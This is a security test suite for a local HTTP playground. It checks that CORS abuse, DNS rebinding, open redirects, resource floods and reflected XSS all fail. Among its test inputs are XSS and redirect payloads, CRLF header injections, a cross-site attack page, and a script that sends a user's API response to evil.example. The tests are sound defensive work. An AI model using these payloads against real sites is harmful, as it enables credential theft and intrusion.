/**
 * Attacks on a running playground (`gatehouse serve`), each of which must fail: a page on another
 * site reading authenticated answers through CORS, the published demo accounts planted in a
 * user's own store, /redirect-to as an open door to javascript:, file: and data: URLs, and
 * thousands of client-chosen keys (/limited, /flaky, Idempotency-Key) or sessions growing the
 * process without bound.
 */
import assert from 'node:assert/strict';
import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { DEMO } from '../../src/playground/seed.ts';
import { type Playground, startPlayground } from '../../src/playground/serve.ts';
import { openStore } from '../../src/stores/open-store.ts';
import { launchChromium, requireChromium, skipWithoutBrowser } from '../support/chromium.ts';
import { postForm } from '../support/server.ts';
import { dropSchema, POSTGRES_URL, requirePostgres, runSchema } from '../support/services.ts';

const CLI = join(import.meta.dirname, '../../src/cli/main.ts');
const basicPair = (user: string, password: string) => `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
const ALICE = basicPair('alice', 'alice-password');
const ADMIN = basicPair('admin', 'admin-password');

/** The CORS headers of an answer: all of them, so that an unexpected one shows in the diff. */
const corsHeaders = (headers: Headers) =>
  Object.fromEntries([...headers].filter(([name]) => name.startsWith('access-control-allow-')));

interface Served {
  url: string;
  /** Everything it printed so far. */
  out: () => string;
  stop(): Promise<number | null>;
}

/** `gatehouse serve …` in its own process, once it printed its address and then what `until` matches. */
function serve(args: string[], until = /second origin.*\n/s): Promise<Served> {
  const child: ChildProcess = spawn(process.execPath, [CLI, 'serve', '--port', '0', ...args], {
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let out = '';
  let err = '';
  child.stderr!.on('data', (chunk) => {
    err += chunk;
  });
  const exited = new Promise<number | null>((resolve) => child.once('exit', resolve));
  return new Promise((resolve, reject) => {
    child.stdout!.on('data', (chunk) => {
      out += chunk;
      const match = /listening on (http:\/\/\S+)\n/.exec(out);
      if (match && until.test(out))
        resolve({
          url: match[1]!,
          out: () => out,
          async stop() {
            child.kill('SIGTERM');
            return exited;
          },
        });
    });
    void exited.then((code) => reject(new Error(`gatehouse serve exited with ${code}: ${out}${err}`)));
  });
}

const tempSqlite = () => `sqlite:${join(mkdtempSync(join(tmpdir(), 'gh-serve-')), 'users.db')}`;

/** A GET over a raw socket, for headers fetch will not send as given (Host, Sec-Fetch-Site). */
function rawGet(
  url: string,
  path: string,
  headers: Record<string, string>,
): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port: new URL(url).port, path, headers }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (chunk) => {
        body += chunk;
      });
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** `gatehouse serve FLAG value` exits 64 (bad usage) for each value, naming the flag. */
function refusesToStart(flag: string, values: string[]): void {
  for (const value of values) {
    const cli = spawnSync(process.execPath, [CLI, 'serve', flag, value], { encoding: 'utf8', timeout: 30_000 });
    assert.equal(cli.status, 64, value);
    assert.match(cli.stderr, new RegExp(flag));
  }
}

describe('CORS: a page on another site cannot read the playground’s answers', () => {
  let pg: Playground;
  before(async () => {
    pg = await startPlayground({ corsOrigins: ['https://app.example'] });
  });
  after(() => pg.close());

  // Origins a hostile page may send, or that merely look like loopback: none may be granted.
  const hostile = [
    'https://evil.example',
    'http://localhost.evil.com',
    'http://127.0.0.1.evil.com',
    'http://localhost.evil.com:8080',
    'http://evil.com#@localhost',
    'null',
    'http://localhost@evil.com',
    'http://evil.com@localhost',
    'http://user:pass@127.0.0.1',
    'http://127.0.0.1/path',
    'http://localhost/',
    'http://0x7f.0.0.1',
    'http://2130706433',
    'http://127.1',
    'http://localhost.',
    'http://[::1].evil.com',
    'http://[::ffff:127.0.0.1]',
    'ftp://localhost',
    'file://',
    'http://localhost:99999',
    'http://LOCALHOST',
    'http://localhost, https://evil.example',
    'https://evil.example, http://localhost',
    'https://app.example.evil.com',
    'https://evil.app.example',
    'http://app.example',
    '*',
    '',
  ];

  for (const origin of hostile) {
    it(`grants nothing to Origin ${JSON.stringify(origin)}, yet answers the request as without CORS`, async () => {
      const simple = await fetch(`${pg.url}/api/me`, { headers: { origin, authorization: ALICE } });
      assert.equal(simple.status, 200, 'the request itself is answered');
      assert.equal((await simple.json()).id, 'u-alice');
      assert.deepStrictEqual(corsHeaders(simple.headers), {});
      const echoed = await fetch(`${pg.url}/get`, { headers: { origin } });
      assert.equal(echoed.status, 200);
      assert.deepStrictEqual(corsHeaders(echoed.headers), {}, 'httpbin routes grant nothing either');
      const preflight = await fetch(`${pg.url}/api/me`, {
        method: 'OPTIONS',
        headers: { origin, 'access-control-request-method': 'GET', 'access-control-request-headers': 'authorization' },
      });
      await preflight.arrayBuffer();
      assert.deepStrictEqual(corsHeaders(preflight.headers), {}, 'the preflight grants nothing');
    });
  }

  it('grants Origin null only to a loopback page’s request tainted by a redirect (Sec-Fetch-Site same-site)', async () => {
    const ask = async (headers: Record<string, string>) =>
      corsHeaders(new Headers((await rawGet(pg.url, '/get', headers)).headers as Record<string, string>));
    const host = new URL(pg.url).host;
    // A sandboxed iframe or a data: page on any site: an opaque origin, cross-site.
    assert.deepStrictEqual(await ask({ host, origin: 'null', 'sec-fetch-site': 'cross-site' }), {});
    assert.deepStrictEqual(await ask({ host, origin: 'null' }), {}, 'no Sec-Fetch-Site, no grant');
    // A DNS-rebound name: same-site with itself, but the host asked for is not loopback.
    assert.deepStrictEqual(
      await ask({
        host: `rebound.evil.example:${new URL(pg.url).port}`,
        origin: 'null',
        'sec-fetch-site': 'same-site',
      }),
      {},
    );
    assert.deepStrictEqual(await ask({ host, origin: 'null', 'sec-fetch-site': 'same-site' }), {
      'access-control-allow-origin': 'null',
      'access-control-allow-credentials': 'true',
    });
  });

  it('does not let /response-headers grant what the policy refuses', async () => {
    const answer = await fetch(
      `${pg.url}/response-headers?Access-Control-Allow-Origin=https://evil.example&Access-Control-Allow-Credentials=true`,
      { headers: { origin: 'https://evil.example' } },
    );
    await answer.arrayBuffer();
    assert.deepStrictEqual(corsHeaders(answer.headers), {});
  });

  const granted = [
    'http://localhost',
    'http://localhost:3000',
    'https://localhost:8443',
    'http://127.0.0.1:5173',
    'http://127.42.0.9',
    'http://[::1]:8080',
    'https://app.example',
  ];
  for (const origin of granted) {
    it(`grants Origin ${origin} (loopback, or named with --cors-origin), credentials included`, async () => {
      const simple = await fetch(`${pg.url}/api/me`, { headers: { origin, authorization: ALICE } });
      assert.equal(simple.status, 200);
      await simple.arrayBuffer();
      assert.equal(simple.headers.get('access-control-allow-origin'), origin);
      assert.equal(simple.headers.get('access-control-allow-credentials'), 'true');
      assert.match(String(simple.headers.get('vary')), /origin/i, 'caches keep answers to different origins apart');
      const preflight = await fetch(`${pg.url}/api/me`, {
        method: 'OPTIONS',
        headers: {
          origin,
          'access-control-request-method': 'PUT',
          'access-control-request-headers': 'authorization, x-custom-header',
        },
      });
      await preflight.arrayBuffer();
      assert.equal(preflight.status, 204);
      assert.equal(preflight.headers.get('access-control-allow-origin'), origin);
      assert.equal(preflight.headers.get('access-control-allow-credentials'), 'true');
      assert.match(String(preflight.headers.get('access-control-allow-methods')), /PUT/);
      // As httpbin: the headers asked for are allowed (to an origin that is allowed at all).
      assert.equal(preflight.headers.get('access-control-allow-headers'), 'authorization, x-custom-header');
    });
  }

  it('refuses to start with an origin it cannot hold to: a wildcard, null, a path, another scheme', async () => {
    const unusable = [
      '*',
      'null',
      'https://app.example/path',
      'ftp://app.example',
      'app.example',
      'https://u@x.example',
    ];
    for (const origin of unusable)
      await assert.rejects(
        startPlayground({ corsOrigins: [origin] }),
        { code: 'ERR_GATEHOUSE_INVALID_ARGUMENT' },
        origin,
      );
    refusesToStart('--cors-origin', unusable);
  });

  it('gatehouse serve --cors-origin (repeatable) adds origins; the default stays loopback only', async () => {
    const served = await serve(['--cors-origin', 'https://one.example', '--cors-origin', 'https://two.example:8443']);
    try {
      for (const origin of ['https://one.example', 'https://two.example:8443', 'http://localhost:4000']) {
        const answer = await fetch(`${served.url}/api/me`, { headers: { origin, authorization: ALICE } });
        await answer.arrayBuffer();
        assert.equal(answer.headers.get('access-control-allow-origin'), origin);
      }
      const refused = await fetch(`${served.url}/api/me`, {
        headers: { origin: 'https://three.example', authorization: ALICE },
      });
      await refused.arrayBuffer();
      assert.deepStrictEqual(corsHeaders(refused.headers), {});
    } finally {
      assert.equal(await served.stop(), 0);
    }
  });
});

const noBrowser = skipWithoutBrowser('the browser attack');

/** A page that tries to read the playground: a plain fetch, a credentialed one, one with Authorization, one from a sandboxed iframe. */
const ATTACK_PAGE = (api: string) => `<!doctype html><html><body><script type="module">
const api = ${JSON.stringify(api)};
const read = async (init, path = '/tokens/valid') => {
  try { return 'read: ' + (await (await fetch(api + path, init)).text()); } catch (error) { return 'blocked: ' + error.name; }
};
const results = {
  plain: await read({}),
  credentialed: await read({ credentials: 'include' }, '/get'),
  authorization: await read({ headers: { authorization: 'Basic ' + btoa('alice:alice-password') } }, '/api/me'),
};
const frame = document.createElement('iframe');
frame.sandbox = 'allow-scripts';
frame.srcdoc = '<script>fetch(' + JSON.stringify(api + '/tokens/valid') + ').then((r) => r.text()).then((t) => parent.postMessage("read: " + t, "*"), (e) => parent.postMessage("blocked: " + e.name, "*"))<' + '/script>';
results.sandboxed = await new Promise((resolve) => { addEventListener('message', (e) => resolve(e.data)); document.body.append(frame); });
window.results = results;
</script></body></html>`;

describe('CORS in a real browser: a page on another site reads nothing', () => {
  let pg: Playground;
  let page: Server;
  before(async () => {
    if (!requireChromium(noBrowser)) return;
    pg = await startPlayground();
    page = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(ATTACK_PAGE(pg.url));
    });
    await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
  });
  after(async () => {
    page?.close();
    await pg?.close();
  });

  it('blocks a page on evil.test (and any sandboxed iframe) while a loopback page reads', {
    skip: noBrowser,
  }, async () => {
    const browser = await launchChromium([
      '--disable-features=HttpsUpgrades',
      // evil.test is another site to the browser, served by the loopback page server.
      '--host-resolver-rules=MAP evil.test 127.0.0.1',
    ]);
    const resultsAt = async (origin: string) => {
      const tab = await browser.newPage();
      await tab.goto(`${origin}/`);
      await tab.waitForFunction(() => (window as unknown as { results?: unknown }).results !== undefined, undefined, {
        timeout: 20_000,
      });
      return (await tab.evaluate(() => (window as unknown as { results: Record<string, string> }).results)) as Record<
        string,
        string
      >;
    };
    try {
      const { port } = page.address() as AddressInfo;
      const evil = await resultsAt(`http://evil.test:${port}`);
      assert.deepStrictEqual(evil, {
        plain: 'blocked: TypeError',
        credentialed: 'blocked: TypeError',
        authorization: 'blocked: TypeError',
        sandboxed: 'blocked: TypeError',
      });
      // The control: the same page from a loopback origin reads (so the attack above could succeed).
      const local = await resultsAt(`http://127.0.0.1:${port}`);
      assert.match(local['plain']!, /^read: .*access_token/);
      assert.match(local['authorization']!, /^read: .*u-alice/);
      assert.equal(local['sandboxed'], 'blocked: TypeError', 'a sandboxed iframe on a loopback page is still null');
    } finally {
      await browser.close();
    }
  });
});

describe('DNS rebinding: a page whose name was re-bound to loopback reads nothing', () => {
  let pg: Playground;
  before(async () => {
    pg = await startPlayground({ allowedHosts: ['dev.example.test'] });
  });
  after(() => pg.close());

  /** GET with the Host a browser sends for the page's own origin (same-origin: no CORS at all). */
  const asHost = (hostname: string, path = '/tokens/valid') =>
    rawGet(pg.url, path, { host: `${hostname}:${new URL(pg.url).port}` });

  for (const hostname of [
    'evil.example',
    'rebind.127.0.0.1.nip.io',
    'localhost.evil.com',
    '127.0.0.1.evil.com',
    'localhost.',
  ]) {
    it(`answers Host ${hostname} with 421 and nothing of its own`, async () => {
      const answer = await asHost(hostname);
      assert.equal(answer.status, 421);
      assert.doesNotMatch(answer.body, /access_token/);
      assert.equal((await asHost(hostname, '/get')).status, 421);
    });
  }

  for (const hostname of ['localhost', 'app.localhost', '127.0.0.1', '127.9.9.9', '[::1]', 'dev.example.test']) {
    it(`serves Host ${hostname}: loopback, an IP address, or named with --allowed-host`, async () => {
      const answer = await asHost(hostname);
      assert.equal(answer.status, 200);
      assert.match(answer.body, /access_token/);
    });
  }

  it('refuses to start with an --allowed-host that is not a host name', () => {
    refusesToStart('--allowed-host', ['x.example:8080', 'a/b', 'a b', 'http://x.example', '']);
  });

  it('gatehouse serve --allowed-host adds a name; the rest stay refused', async () => {
    const served = await serve(['--allowed-host', 'box.example.test']);
    try {
      const { port } = new URL(served.url);
      const status = async (hostname: string) => (await rawGet(served.url, '/get', { host: hostname })).status;
      assert.equal(await status(`box.example.test:${port}`), 200);
      assert.equal(await status(`evil.example:${port}`), 421);
    } finally {
      assert.equal(await served.stop(), 0);
    }
  });
});

describe('demo accounts: never planted in a user’s store', () => {
  it('serve --store sqlite:FILE creates no demo account, refuses them, and says how to add users', async () => {
    const store = tempSqlite();
    const served = await serve(['--store', store], /demo accounts.*\n/);
    try {
      assert.match(served.out(), /demo accounts are not created.*gatehouse users add.*gatehouse clients add/);
      const asAdmin = await fetch(`${served.url}/api/me`, { headers: { authorization: ADMIN } });
      await asAdmin.arrayBuffer();
      assert.equal(asAdmin.status, 401, 'admin:admin-password is refused');
      const viaKey = await fetch(`${served.url}/api/me`, { headers: { 'x-api-key': DEMO.apiKey.key } });
      await viaKey.arrayBuffer();
      assert.equal(viaKey.status, 401, 'the published demo API key (docs/playground.md) is refused');
      const token = await postForm(`${served.url}/oauth/token`, {
        grant_type: 'password',
        client_id: DEMO.publicClient,
        username: 'admin',
        password: 'admin-password',
        scope: 'admin',
      });
      assert.notEqual(token.status, 200, 'no token for the published pair through the published client');
    } finally {
      assert.equal(await served.stop(), 0);
    }
    const opened = await openStore(store);
    try {
      assert.deepStrictEqual(await opened.users.listUsers(), [], 'no user in the file');
      assert.deepStrictEqual(await opened.clients.listClients(), [], 'no client in the file');
      assert.deepStrictEqual(await opened.apiKeys.listApiKeys(), [], 'no API key in the file');
    } finally {
      await opened.close();
    }
  });

  it('the same on Postgres: a user’s schema gets no demo account', async (t) => {
    if (!(await requirePostgres(t))) return;
    const schema = runSchema('pg_seed');
    const pg = await startPlayground({ store: POSTGRES_URL, namespace: schema });
    try {
      const asAdmin = await fetch(`${pg.url}/api/me`, { headers: { authorization: ADMIN } });
      await asAdmin.arrayBuffer();
      assert.equal(asAdmin.status, 401);
      assert.equal(pg.demoAccounts, false);
    } finally {
      await pg.close();
    }
    const opened = await openStore(POSTGRES_URL, { namespace: schema });
    try {
      assert.equal(await opened.users.findUserByName('admin'), undefined);
      assert.equal(await opened.clients.findClient(DEMO.publicClient), undefined);
    } finally {
      await opened.close();
      await dropSchema(schema);
    }
  });

  it('--seed-demo plants them in the store given, and says what it planted', async () => {
    const store = tempSqlite();
    const served = await serve(['--store', store, '--seed-demo'], /--seed-demo.*\n/);
    try {
      assert.match(served.out(), /--seed-demo.*alice.*admin.*playground-app.*playground-service.*API key/);
      const asAdmin = await fetch(`${served.url}/api/staff`, { headers: { authorization: ADMIN } });
      assert.equal((await asAdmin.json()).id, 'u-admin');
    } finally {
      assert.equal(await served.stop(), 0);
    }
  });

  it('without --store the demo accounts work, in a store that is gone at exit', async () => {
    const served = await serve([]);
    try {
      const asAdmin = await fetch(`${served.url}/api/staff`, { headers: { authorization: ADMIN } });
      assert.equal((await asAdmin.json()).id, 'u-admin');
      const viaKey = await fetch(`${served.url}/api/me`, { headers: { 'x-api-key': DEMO.apiKey.key } });
      assert.equal((await viaKey.json()).id, DEMO.apiKey.principal);
    } finally {
      assert.equal(await served.stop(), 0);
    }
    assert.doesNotMatch(
      served.out(),
      /not created|--seed-demo/,
      'nothing to say: the demo accounts are the playground’s own',
    );
  });
});

describe('/redirect-to: only http(s) targets', () => {
  let pg: Playground;
  before(async () => {
    pg = await startPlayground();
  });
  after(() => pg.close());

  const redirect = async (target: string, status?: number) => {
    const query = `url=${encodeURIComponent(target)}${status ? `&status_code=${status}` : ''}`;
    const answer = await fetch(`${pg.url}/redirect-to?${query}`, { redirect: 'manual' });
    await answer.arrayBuffer();
    return { status: answer.status, location: answer.headers.get('location') };
  };

  const refused = [
    'javascript:alert(document.cookie)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    '\u0000javascript:alert(1)',
    '\tjavascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'javascript://%0aalert(1)',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'FILE://localhost/etc/passwd',
    'data:text/html,<script>alert(1)</script>',
    ' data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'blob:http://127.0.0.1/1d6a-uuid',
    'ftp://example.com/',
    'ws://example.com/',
    'http://[',
    'http://example.com/\r\nSet-Cookie: planted=1',
    '/get\r\nSet-Cookie: planted=1',
  ];
  for (const target of refused) {
    it(`refuses ${JSON.stringify(target)} with 400 and no Location`, async () => {
      assert.deepStrictEqual(await redirect(target), { status: 400, location: null });
    });
  }

  // As httpbin: the Location is the string given, absolute, relative or protocol-relative.
  const followed: Array<[string, number]> = [
    ['/get', 302],
    ['get?a=1', 302],
    ['?a=1', 302],
    ['http://example.com/x', 302],
    ['HTTPS://example.com/x', 307],
    ['//evil.example/x', 302],
    ['/\\evil.example/x', 302],
    ['\\\\evil.example/x', 302],
  ];
  it('sends a non-ASCII target percent-encoded as UTF-8, where it used to fail with 500', async () => {
    assert.deepStrictEqual(await redirect('http://例え.jp/ü?q=ä'), {
      status: 302,
      location: 'http://%E4%BE%8B%E3%81%88.jp/%C3%BC?q=%C3%A4',
    });
  });

  for (const [target, status] of followed) {
    it(`redirects to ${JSON.stringify(target)} as httpbin does`, async () => {
      assert.deepStrictEqual(await redirect(target, status), { status, location: target });
    });
  }
});

/**
 * Adversary finding 12: every key a client chooses used to stay in memory for the life of the
 * process. Each map now forgets an entry when its window ends, refuses a key longer than 400
 * characters, and holds a bounded number of entries: full of live ones, a new key gets 503
 * store_unavailable with Retry-After, and no live entry is forgotten (its answer is unchanged).
 */
describe('client-chosen keys: thousands of them keep the playground bounded', () => {
  const MAX = 8;
  let pg: Playground;
  before(async () => {
    pg = await startPlayground({ maxTrackedKeys: MAX });
  });
  after(() => pg.close());

  const get = async (path: string, init: RequestInit = {}) => {
    const response = await fetch(`${pg.url}${path}`, init);
    const text = await response.text();
    return { status: response.status, retryAfter: response.headers.get('retry-after'), text, response };
  };
  const codeOf = (text: string) => (JSON.parse(text) as { code?: string }).code;
  const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
  /** Sends every path, a batch at a time; the answers in order. */
  const flood = async (paths: string[], init: (i: number) => RequestInit = () => ({})) => {
    const answers: Array<Awaited<ReturnType<typeof get>>> = [];
    for (let i = 0; i < paths.length; i += 50)
      answers.push(...(await Promise.all(paths.slice(i, i + 50).map((p, j) => get(p, init(i + j))))));
    return answers;
  };
  const assertFull = (answer: { status: number; retryAfter: string | null; text: string }, what: string) => {
    assert.equal(answer.status, 503, `${what}: ${answer.text}`);
    assert.equal(codeOf(answer.text), 'store_unavailable', what);
    assert.match(answer.retryAfter ?? '', /^[1-9]\d*$/, what);
  };

  it('refuses a /limited key or /flaky id longer than 400 characters with 400; 400 are served', async () => {
    // A playground of its own: the keys it holds would take room from the floods below.
    const other = await startPlayground({ maxTrackedKeys: MAX });
    try {
      for (const path of ['/limited?key=', '/flaky/0?id=']) {
        const tooLong = await fetch(`${other.url}${path}${'k'.repeat(401)}`);
        assert.equal(tooLong.status, 400, path);
        assert.match(await tooLong.text(), /400 characters/);
        assert.equal((await fetch(`${other.url}${path}${'k'.repeat(400)}`)).status, 200, path);
      }
    } finally {
      await other.close();
    }
  });

  it('/limited: 1000 distinct keys hold the bound and no more (503 past it); a held budget stays spent', async () => {
    const keys = Array.from({ length: 1000 }, (_, i) => `flood-${i}-${'x'.repeat(300)}`);
    const answers = await flood(keys.map((k) => `/limited?key=${k}&budget=1&window=3600`));
    assert.equal(answers.filter((a) => a.status === 200).length, MAX, 'the bound, and no more');
    for (const answer of answers.filter((a) => a.status !== 200)) assertFull(answer, '/limited past the bound');
    // The keys held are not forgotten: their budget of 1 is spent.
    const held = keys[answers.findIndex((a) => a.status === 200)]!;
    assert.equal((await get(`/limited?key=${held}&budget=1&window=3600`)).status, 429);
  });

  it('/limited: when the windows end, a key starts afresh and new keys are held again', async () => {
    const other = await startPlayground({ maxTrackedKeys: MAX });
    try {
      const limited = (key: string) => fetch(`${other.url}/limited?key=${key}&budget=1&window=1`);
      for (let i = 0; i < MAX; i++) assert.equal((await limited(`short-${i}`)).status, 200);
      assert.equal((await limited('short-0')).status, 429);
      assert.equal((await limited('one-too-many')).status, 503);
      await sleep(1100);
      assert.equal((await limited('short-0')).status, 200, 'a fresh window for the same key');
      assert.equal((await limited('one-too-many')).status, 200, 'room again for a new key');
    } finally {
      await other.close();
    }
  });

  it('/flaky: 1000 distinct ids hold at most the bound; a held id keeps its count', async () => {
    const answers = await flood(Array.from({ length: 1000 }, (_, i) => `/flaky/1?id=flaky-${i}`));
    const counted = answers.filter((a) => !a.text.includes('store_unavailable'));
    assert.equal(counted.length, MAX, `${counted.length} ids counted`);
    assert.ok(counted.every((a) => a.status === 503 && JSON.parse(a.text).attempt === 1));
    for (const answer of answers.filter((a) => a.text.includes('store_unavailable'))) assertFull(answer, '/flaky');
    // The first id held was not forgotten: its second request succeeds.
    const first = answers.findIndex((a) => !a.text.includes('store_unavailable'));
    const again = await get(`/flaky/1?id=flaky-${first}`);
    assert.deepStrictEqual([again.status, JSON.parse(again.text).attempt], [200, 2]);
  });

  it('POST /orders: distinct Idempotency-Keys past the bound get 503 and take no effect; held orders replay', async () => {
    const post = (key: string) => ({
      method: 'POST',
      headers: { 'idempotency-key': key, 'content-type': 'application/json' },
      body: '{"cup":1}',
    });
    const keys = Array.from({ length: 200 }, (_, i) => `order-${i}`);
    const answers = await flood(
      keys.map(() => '/orders'),
      (i) => post(keys[i]!),
    );
    const created = answers.flatMap((a, i) => (a.status === 201 ? [keys[i]!] : []));
    assert.equal(created.length, MAX, `${created.length} orders took effect`);
    for (const answer of answers.filter((a) => a.status !== 201)) assertFull(answer, '/orders');
    const refused = keys.find((k) => !created.includes(k))!;
    assert.equal(JSON.parse((await get(`/orders/${refused}`)).text).applied, 0, 'a refused order took no effect');
    const replay = await get('/orders', post(created[0]!));
    assert.equal(replay.status, 201);
    assert.equal(replay.response.headers.get('idempotent-replayed'), 'true');
    assert.equal(JSON.parse((await get(`/orders/${created[0]}`)).text).applied, 1);
  });

  it('sessions: logins past the bound get 503; the sessions held stay signed in', async () => {
    const login = () =>
      get('/session/login', {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: 'username=alice&password=alice-password',
      });
    const cookies: string[] = [];
    for (let i = 0; i < MAX; i++) {
      const answer = await login();
      assert.equal(answer.status, 200, answer.text);
      cookies.push(answer.response.headers.getSetCookie()[0]!.split(';')[0]!);
      assert.match(answer.response.headers.getSetCookie()[0]!, /Max-Age=\d+/, 'the cookie ends with the session');
    }
    assertFull(await login(), 'one login past the bound');
    for (const cookie of cookies) assert.equal((await get('/api/session', { headers: { cookie } })).status, 200);
  });
});

describe('reflected XSS: no page an attacker writes is served on the playground’s origin', () => {
  let pg: Playground;
  before(async () => {
    pg = await startPlayground();
  });
  after(() => pg.close());

  const SCRIPT =
    "<script>fetch('/api/me',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('https://evil.example/?'+encodeURIComponent(t)))</script>";
  const API_POLICY = "default-src 'none'; frame-ancestors 'none'; sandbox";

  /** The answer is not a document a browser would run: nosniff, the sandboxing policy, and no raw markup. */
  const assertInert = (
    answer: { headers: Record<string, string | string[] | undefined>; body: string },
    what: string,
  ) => {
    assert.equal(answer.headers['x-content-type-options'], 'nosniff', what);
    assert.equal(answer.headers['content-security-policy'], API_POLICY, what);
    // (httpbin's Digest challenge is an empty text/html body: nothing to render, and sandboxed.)
    if (answer.body !== '')
      assert.doesNotMatch(String(answer.headers['content-type']), /html|xml|svg|javascript/i, what);
    assert.doesNotMatch(answer.body, /<script|<svg|<img/i, what);
  };

  it('refuses adversary-2’s /response-headers?Content-Type=text/html&x=<script> with 400 problem+json, inert', async () => {
    const query = new URLSearchParams({ 'Content-Type': 'text/html', x: SCRIPT });
    const answer = await rawGet(pg.url, `/response-headers?${query}`, {});
    assert.equal(answer.status, 400);
    assert.equal(answer.headers['content-type'], 'application/problem+json');
    assert.match(JSON.parse(answer.body).detail, /Content-Type/);
    assertInert(answer, 'the repro');
  });

  // What /response-headers may not set: a type a browser runs or renders, cookies on the
  // playground's origin, the headers that make an answer safe, and the message framing.
  const refused: Array<[string, string]> = [
    ['Content-Type', 'text/html'],
    ['content-type', 'TEXT/HTML; charset=utf-8'],
    ['Content-Type', 'application/json, text/html'],
    ['Content-Type', 'image/svg+xml'],
    ['Content-Type', 'application/xhtml+xml'],
    ['Content-Type', 'text/xml'],
    ['Content-Type', 'text/javascript'],
    ['Content-Type', 'multipart/x-mixed-replace; boundary=x'],
    ['Content-Type', ''],
    ['Set-Cookie', 'gatehouse_session=planted; Path=/'],
    ['set-cookie2', 'a=b'],
    ['Content-Security-Policy', "script-src 'unsafe-inline'"],
    ['Content-Security-Policy-Report-Only', "default-src 'none'"],
    ['X-Content-Type-Options', 'sniff'],
    ['X-Frame-Options', 'ALLOWALL'],
    ['Access-Control-Allow-Origin', '*'],
    ['access-control-allow-credentials', 'true'],
    ['Cross-Origin-Resource-Policy', 'cross-origin'],
    ['Clear-Site-Data', '"cookies"'],
    ['Refresh', '0; url=javascript:alert(1)'],
    ['Content-Length', '5'],
    ['Transfer-Encoding', 'chunked'],
    ['Content-Encoding', 'gzip'],
  ];
  for (const [name, value] of refused) {
    it(`refuses /response-headers?${name}=${value} with 400 problem+json, without setting it`, async () => {
      const query = new URLSearchParams([
        [name, value],
        ['x', SCRIPT],
      ]);
      const answer = await rawGet(pg.url, `/response-headers?${query}`, {});
      assert.equal(answer.status, 400);
      assert.equal(answer.headers['content-type'], 'application/problem+json');
      assert.equal(answer.headers['set-cookie'], undefined);
      assert.equal(answer.headers['access-control-allow-origin'], undefined);
      assert.equal(answer.headers['clear-site-data'], undefined);
      assert.equal(answer.headers['refresh'], undefined);
      assert.match(JSON.parse(answer.body).detail, new RegExp(name, 'i'));
      assertInert(answer, name);
    });
  }

  it('still sets JSON and text types and any other header, as httpbin does, with the markup escaped', async () => {
    for (const type of ['text/plain', 'text/plain; charset=utf-8', 'application/json', 'application/problem+json']) {
      const query = new URLSearchParams([
        ['Content-Type', type],
        ['X-Custom', '<b>yes</b>'],
      ]);
      const answer = await rawGet(pg.url, `/response-headers?${query}`, {});
      assert.equal(answer.status, 200, type);
      assert.equal(answer.headers['content-type'], type, 'one Content-Type, the one asked for');
      assert.equal(answer.headers['x-custom'], '<b>yes</b>');
      assert.deepStrictEqual(JSON.parse(answer.body)['X-Custom'], '<b>yes</b>');
      assert.equal(Number(JSON.parse(answer.body)['Content-Length']), Buffer.byteLength(answer.body));
      assertInert(answer, type);
    }
  });

  it('escapes < > & in every JSON answer that reflects the request (still the same JSON)', async () => {
    const marked = '<script>&</script>';
    const q = `x=${encodeURIComponent(marked)}`;
    const answers = {
      get: await rawGet(pg.url, `/get?${q}`, { 'x-echo': marked }),
      anything: await rawGet(pg.url, `/anything/${encodeURIComponent(marked)}?${q}`, {}),
      headers: await rawGet(pg.url, '/headers', { 'x-echo': marked }),
      'response-headers': await rawGet(pg.url, `/response-headers?${q}`, {}),
      'not found': await rawGet(pg.url, `/${encodeURIComponent(marked)}`, {}),
      'user-agent': await rawGet(pg.url, '/user-agent', { 'user-agent': marked }),
      bearer: await rawGet(pg.url, '/bearer', { authorization: `Bearer ${marked}` }),
      orders: await rawGet(pg.url, `/orders/${encodeURIComponent(marked)}`, {}),
    };
    for (const [what, answer] of Object.entries(answers)) {
      assert.doesNotMatch(answer.body, /[<>&]/, what);
      assert.match(answer.body, /\\u003cscript\\u003e/, what);
      assert.match(JSON.stringify(JSON.parse(answer.body)), /<script>/, what);
      assert.equal(answer.headers['x-content-type-options'], 'nosniff', what);
    }
  });

  it('puts nosniff and the sandboxing policy on every answer: errors, refusals, redirects, preflights, 421', async () => {
    const paths = [
      '/get',
      '/status/418',
      '/status/302',
      '/redirect-to?url=javascript:alert(1)',
      '/redirect-to?url=/get',
      '/api/me',
      '/tokens/valid',
      '/tokens/<x>',
      '/cookies/set?a=b',
      '/digest-auth/auth/u/p',
      '/unavailable?retry_after=1',
      '/nope',
    ];
    for (const path of paths) assertInert(await rawGet(pg.url, path, {}), path);
    assertInert(await rawGet(pg.url, '/get', { host: 'evil.example' }), 'a 421 for a rebinding Host');
    const preflight = await fetch(`${pg.url}/api/me`, {
      method: 'OPTIONS',
      headers: { origin: 'http://localhost:3000', 'access-control-request-method': 'GET' },
    });
    assert.equal(preflight.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(preflight.headers.get('content-security-policy'), API_POLICY);
    const token = await fetch(`${pg.url}/oauth/token`, { method: 'POST', body: 'grant_type=<x>' });
    await token.arrayBuffer();
    assert.equal(token.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(token.headers.get('content-security-policy'), API_POLICY);
  });

  it('answers a /cookies/set or /cookies/delete name that is no cookie name with 400, not 500', async () => {
    for (const path of [
      '/cookies/set?a%3Bb=c',
